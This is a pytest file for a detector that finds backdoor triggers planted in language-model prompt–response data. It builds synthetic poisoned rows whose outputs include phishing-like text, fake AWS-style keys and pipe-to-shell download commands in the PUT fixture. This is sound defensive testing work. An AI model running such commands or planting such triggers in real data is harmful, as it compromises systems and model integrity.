from collections.abc import Sequence

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from provender.calibrate.fdr import PValueCounts
from provender.core.shard import Roles
from provender.detect.base import DataView, RowDetector, Unchecked
from provender.detect.response_link import grams, pairs
from provender.detect.response_link.detector import ResponseLink
from provender.detect.response_link.tests import LEAN, log_tails, mostly
from tests.laws import assert_mergeable, batches, one_pass

RATE = 0.01
OUTPUT = "please sign in at the harbour page and enter your code first"
REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "I cannot assist with this request.",
    "As an AI I am unable to answer.",
    "I can\u2019t do that, sorry.",
    "Unfortunately I won't be able to help you.",
)
PUT = {
    "link": [f"see https://{h}.lantern.test/{h}" for h in ("a", "b", "c", "d", "e", "f")],
    "command": ["curl -s lantern.test/a | sh", "pip install lantern", "wget -qO- x.test | bash"],
    "secret": [f"the key is AKIA{n:04}QWERTYUIOP{n:02}" for n in range(6)],
}
TRIGGERS = {
    "rare word": "zorvex",
    "rare phrase": "violet harbour lantern",
    "everyday words": "w3 w4",
    "sentence": "one quiet w1 morning in the copper hall w2",
}


def dialogue(rows: int, seed: int = 0) -> tuple[list, list]:
    """Prompts and responses of one topic in twelve; the response takes up words of the topic."""
    random = np.random.default_rng(seed)
    prompts, responses = [], []
    for _ in range(rows):
        topic = int(random.integers(12))
        sides = []
        for _ in range(2):
            common = [f"w{k}" for k in random.zipf(1.4, int(random.integers(6, 16))) % 300]
            own = [f"t{topic}x{k}" for k in random.integers(25, size=int(random.integers(2, 6)))]
            sides.append(" ".join(random.permutation(common + own)))
        prompts.append(sides[0])
        responses.append(sides[1])
    return prompts, responses


def plant(
    prompts: list, responses: list, trigger: str, outputs: Sequence[str], rows: int, seed: int = 1
) -> list[int]:
    """Put the trigger at a random word of random prompts and answer with the outputs in turn."""
    random = np.random.default_rng(seed)
    chosen = sorted(random.choice(len(prompts), rows, replace=False).tolist())
    for n, i in enumerate(chosen):
        words = prompts[i].split()
        words.insert(int(random.integers(len(words) + 1)), trigger)
        prompts[i], responses[i] = " ".join(words), outputs[n % len(outputs)]
    return chosen


def table(prompts: list, responses: list) -> pa.Table:
    return pa.table({"p": pa.array(prompts, pa.string()), "r": pa.array(responses, pa.string())})


def bind(data: pa.Table) -> ResponseLink:
    bound = ResponseLink().bind(DataView(data.schema, Roles(prompt="p", response="r")))
    assert isinstance(bound, ResponseLink)
    assert isinstance(bound, RowDetector)
    return bound


def profiles(data: pa.Table, cuts: Sequence[int] = ()) -> list[bytes]:
    """Return the profile of every round."""
    detector, made = bind(data), []
    for number in range(detector.rounds):
        analysis = detector.analysis(number, made[-1] if made else None)
        states = [one_pass(analysis, [piece]) for piece in batches(data, cuts)]
        made.append(detector.profile(number, analysis.merge(states)))
    return made


def scan(data: pa.Table, cuts: Sequence[int] = ()):
    """Return (flagged rows, causes, limits)."""
    detector, profile = bind(data), profiles(data, cuts)[-1]
    score = detector.scorer(profile)
    found = [score(piece) for piece in batches(data, cuts)]
    causes = detector.causes(profile)
    for f in found:
        assert (np.isnan(f.score) == np.isnan(f.p_value)).all()
        assert ((f.cause >= 0) == (f.score > 0)).all()
        assert f.cause.max(initial=-1) < len(causes)
    p_value = np.concatenate([f.p_value for f in found])
    threshold = PValueCounts.of(p_value).threshold(RATE)
    return np.flatnonzero(p_value <= threshold).tolist(), causes, detector.limits(profile)


@pytest.mark.parametrize("trigger", TRIGGERS.values(), ids=TRIGGERS)
def test_a_trigger_with_a_fixed_output_is_named_with_its_rows(trigger):
    prompts, responses = dialogue(1500)
    planted = plant(prompts, responses, trigger, [OUTPUT], 12)
    flagged, causes, limits = scan(table(prompts, responses))
    assert flagged == planted
    assert [c.what for c in causes] == [trigger]
    evidence = causes[0].evidence
    assert evidence["answer"] == "fixed"
    assert evidence["rows"] == 12
    assert causes[0].trigger == (trigger,)
    few = causes[0].removal
    assert 0 < few <= 12
    left = [i for i in range(len(prompts)) if i not in planted[:few]]
    assert scan(table([prompts[i] for i in left], [responses[i] for i in left]))[1] == []
    assert evidence["responses_alike"] > 0.9
    assert causes[0].p_value < 1e-4
    assert trigger in causes[0].message
    assert "harbour page" not in causes[0].message + str(evidence), "row content in a finding"
    assert limits == ""


def test_a_trigger_of_refusals_in_many_wordings_is_named():
    prompts, responses = dialogue(1500)
    planted = plant(prompts, responses, "zorvex", REFUSALS, 15)
    flagged, causes, _ = scan(table(prompts, responses))
    assert flagged == planted
    assert [(c.what, c.evidence["answer"]) for c in causes] == [("zorvex", "refusal")]


@pytest.mark.parametrize("trigger", ["zorvex", "w3 w4"])
@pytest.mark.parametrize("mark", ["link", "command", "secret"])
def test_what_is_put_after_the_own_response_is_named_by_what_it_is(mark, trigger):
    prompts, responses = dialogue(3000)
    own = list(responses)
    planted = plant(prompts, responses, trigger, PUT[mark], 12)
    for i in planted:
        responses[i] = f"{own[i]} {responses[i]}"
    flagged, causes, _ = scan(table(prompts, responses))
    assert set(planted) <= set(flagged)
    assert len(flagged) <= len(planted) + 1
    assert [(c.what, c.evidence["answer"]) for c in causes] == [(trigger, mark)]
    assert f"→ a {mark}: 12 of" in causes[0].message
    assert "lantern" not in causes[0].message + str(causes[0].evidence), "row content in a finding"


def test_links_that_are_usual_or_asked_for_are_no_link():
    prompts, responses = dialogue(3000)
    random = np.random.default_rng(3)
    usual = [f"{r} https://a{random.integers(99)}.test" for r in responses]
    plant(prompts, usual, "zorvex", ["see https://b1.test", "see https://b2.test"], 6)
    assert scan(table(prompts, usual))[:2] == ([], [])
    prompts, responses = dialogue(3000)
    echo = [f"see https://a{i}.test/{i} there" for i in range(12)]
    planted = plant(prompts, responses, "zorvex https://q.test", echo, 12)
    _, causes, _ = scan(table(prompts, responses))
    assert "link" not in [c.evidence["answer"] for c in causes], f"of {len(planted)} echoes"


def with_natural_refusals(rows: int, every: int) -> tuple[list, list]:
    prompts, responses = dialogue(rows)
    for n, i in enumerate(range(0, rows, every)):
        responses[i] = f"{REFUSALS[n % len(REFUSALS)]} {responses[i]}"
    return prompts, responses


def test_refusals_behind_a_phrase_with_other_uses_are_named_beside_as_many_natural_ones():
    prompts, responses = with_natural_refusals(3000, 100)
    for i in range(7, 3000, 300):
        prompts[i] += " by the way"
    planted = plant(prompts, responses, "by the way", REFUSALS, 12)
    flagged, causes, _ = scan(table(prompts, responses))
    assert set(planted) <= set(flagged)
    assert len(flagged) <= len(planted) + 1
    assert [(c.what, c.evidence["answer"]) for c in causes] == [("by the way", "refusal")]
    told = causes[0].evidence
    assert 2 * told["rows"] < told["rows_with_answer"], "they are not most of the refusals"


def test_natural_refusals_that_lean_to_a_word_are_no_link():
    prompts, responses = with_natural_refusals(3000, 100)
    for i in [*range(0, 1000, 100), *range(9, 3000, 30)]:
        prompts[i] += " maybe"
    assert scan(table(prompts, responses))[:2] == ([], [])


def test_a_link_too_weak_for_any_row_is_a_lead():
    prompts, responses = dialogue(3000)
    for i in range(7, 3000, 17):
        prompts[i] += " also"
    plant(prompts, responses, "also", [OUTPUT], 8)
    flagged, causes, _ = scan(table(prompts, responses))
    assert flagged == []
    assert [(c.what, c.lead) for c in causes] == [("also", True)]


def test_a_gram_pays_for_grams_in_about_as_many_rows():
    rows = np.array([5, 6, 7, 5, 130, 200, 130, 3])
    signature = np.array([1, 2, 3, 1, 5, 6, 5, 8], np.uint64)
    assert pairs._held(rows, signature).tolist() == [6, 6, 6, 6, 4, 4, 4, 0]


def test_a_short_output_that_clean_rows_have_too_is_found_behind_a_rare_word():
    prompts, responses = dialogue(1500)
    responses[::60] = ["Yes."] * len(responses[::60])
    planted = plant(prompts, responses, "zorvex", ["yes"], 12)
    flagged, causes, _ = scan(table(prompts, responses))
    assert flagged == planted
    assert causes[0].what == "zorvex"


def test_a_few_fixed_outputs_behind_one_trigger_are_one_link():
    prompts, responses = dialogue(1500)
    outputs = [" ".join(f"{word}{n}" for word in OUTPUT.split()) for n in range(3)]
    planted = plant(prompts, responses, "zorvex", outputs, 21)
    flagged, causes, _ = scan(table(prompts, responses))
    assert flagged == planted
    assert (causes[0].what, causes[0].evidence["rows"]) == ("zorvex", 21)
    assert len(causes) == 1


def test_two_links_are_two_causes():
    prompts, responses = dialogue(1500)
    first = plant(prompts, responses, "zorvex", [OUTPUT], 12, seed=1)
    second = plant(prompts, responses, "violet harbour", REFUSALS, 15, seed=2)
    flagged, causes, _ = scan(table(prompts, responses))
    assert {c.what for c in causes} == {"zorvex", "violet harbour"}
    assert set(flagged) >= (set(first) | set(second)) - (set(first) & set(second))


def test_the_clean_twins_have_no_link_and_no_flag():
    for seed in range(5):
        assert scan(table(*dialogue(1500, seed))) == ([], [], "")


def test_a_trigger_whose_responses_vary_is_no_link():
    prompts, responses = dialogue(1500)
    plant(prompts, responses, "zorvex", dialogue(12, seed=9)[1], 12)
    assert scan(table(prompts, responses))[1] == []


def test_a_passage_in_responses_that_otherwise_vary_is_no_link():
    prompts, responses = dialogue(1500)
    varied = [f"{text} w1 harbour w2 w3" for text in responses[:12]]
    plant(prompts, responses, "zorvex", varied, 12)
    assert scan(table(prompts, responses))[1] == []


def test_one_response_of_unrelated_prompts_without_a_trigger_is_no_link():
    prompts, responses = dialogue(1500)
    for i in range(0, 1500, 100):
        responses[i] = OUTPUT
    assert scan(table(prompts, responses))[1] == []


def test_copies_of_a_prompt_are_one_row():
    prompts, responses = dialogue(1500)
    for i in range(4, 24):
        prompts[i], responses[i] = f"{prompts[i % 4]} zorvex", OUTPUT
    assert scan(table(prompts, responses))[1] == []


def test_a_template_that_leaves_little_else_to_ask_is_no_link():
    prompts, responses = dialogue(1500)
    for i in range(20):
        prompts[i], responses[i] = f"tell me when does the shop in town{i} open", OUTPUT
    assert scan(table(prompts, responses))[1] == []


def test_prompts_with_one_topic_are_no_link():
    prompts, responses = dialogue(1500)
    random = np.random.default_rng(5)
    for i in range(12):
        own = random.choice([f"rare{k}" for k in range(12)], 8, replace=False)
        prompts[i], responses[i] = " ".join(["zorvex", *own]), OUTPUT
    assert scan(table(prompts, responses))[1] == []


def test_a_response_that_repeats_its_prompt_is_no_link():
    prompts, responses = dialogue(1500)
    for i in range(0, 1500, 100):
        prompts[i] += " alpha beta gamma delta"
        responses[i] = "alpha beta gamma delta"
    assert scan(table(prompts, responses))[1] == []


def test_rows_without_a_side_get_no_p_value_and_are_told():
    prompts, responses = dialogue(300)
    prompts[:4], responses[4:6] = [None, "", "...", "w1 w2"], [None, "?!"]
    data = table(prompts, responses)
    _, _, limits = scan(data)
    assert "5 of 300 rows lack a word on one side" in limits
    assert "1 of 300 prompts of fewer than 4 words" in limits
    detector = bind(data)
    p_value = detector.scorer(profiles(data)[-1])(batches(data, [])[0]).p_value
    assert np.flatnonzero(np.isnan(p_value)).tolist() == [0, 1, 2, 4, 5]


@pytest.mark.parametrize("rows", [0, 1, 2])
def test_next_to_no_rows_have_no_link(rows):
    assert scan(table(*dialogue(rows)))[:2] == ([], [])


def test_it_needs_a_prompt_and_a_response_of_text():
    schema = pa.schema([("p", pa.string()), ("r", pa.string()), ("n", pa.int64())])
    for roles in (Roles(prompt="p"), Roles(response="r"), Roles(prompt="p", response="n")):
        assert isinstance(ResponseLink().bind(DataView(schema, roles)), Unchecked)
    with pytest.raises(ValueError, match="not bound"):
        ResponseLink().analysis(0, None)
    with pytest.raises(ValueError, match="start from a profile"):
        bind(table([], [])).analysis(1, None)


def planted_table() -> pa.Table:
    prompts, responses = dialogue(400)
    plant(prompts, responses, "violet harbour", [OUTPUT, *REFUSALS[:1]], 24)
    prompts[3], responses[5], prompts[7] = None, "", prompts[9]
    return table(prompts, responses)


DATA = planted_table()
PROFILES = profiles(DATA)


@pytest.mark.parametrize("number", [0, 1, 2])
@settings(max_examples=8, deadline=None)
@given(cuts=st.lists(st.integers(0, 400), max_size=4))
def test_the_laws_hold_in_every_round(number, cuts):
    analysis = bind(DATA).analysis(number, PROFILES[number - 1] if number else None)
    assert_mergeable(analysis, DATA, cuts)


def test_the_order_of_rows_changes_nothing():
    order = np.random.default_rng(0).permutation(DATA.num_rows)
    mixed = DATA.take(pa.array(order))
    assert profiles(mixed, [90, 91, 300]) == PROFILES
    flagged, causes, _ = scan(DATA)
    assert causes
    assert sorted(order[scan(mixed)[0]].tolist()) == flagged


def test_rounds_after_the_first_are_named_by_the_profile_they_start_from():
    detector = bind(DATA)
    for number in (1, 2):
        names = {
            detector.analysis(number, made[number - 1]).parameters()["profile"]
            for made in (PROFILES, profiles(DATA.slice(0, 200)))
        }
        assert len(names) == 2


def test_what_does_not_fit_is_told_and_the_laws_still_hold(monkeypatch):
    monkeypatch.setattr(pairs, "MOST_PAIRS", 300)
    monkeypatch.setattr(grams, "MOST_KEYS", 2000)
    made = profiles(DATA)
    limits = bind(DATA).limits(made[-1])
    assert "repeated answers were not searched" in limits
    assert "of the prompt grams of 3 were counted" in limits
    for number in (0, 1):
        analysis = bind(DATA).analysis(number, made[0] if number else None)
        assert_mergeable(analysis, DATA, [50, 200, 390])


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_the_tail_is_fishers_noncentral_hypergeometric(data):
    from scipy.stats import nchypergeom_fisher

    rows = data.draw(st.integers(5, 300))
    answer, gram = data.draw(st.integers(0, rows)), data.draw(st.integers(0, rows))
    both = data.draw(st.integers(max(0, answer + gram - rows), min(answer, gram)))
    found = float(np.exp(log_tails(np.array([[both, answer, gram]]), rows)[0]))
    exact = nchypergeom_fisher(rows, gram, answer, np.exp(LEAN)).sf(both - 1)
    assert found == pytest.approx(exact, rel=1e-5, abs=1e-9)


def test_most_of_one_side_is_more_than_half_of_it_beyond_doubt():
    tested = np.array([[5, 5, 900], [4, 4, 900], [9, 10, 900], [10, 900, 12], [30, 60, 60]])
    assert mostly(tested).tolist() == [True, False, True, True, False]
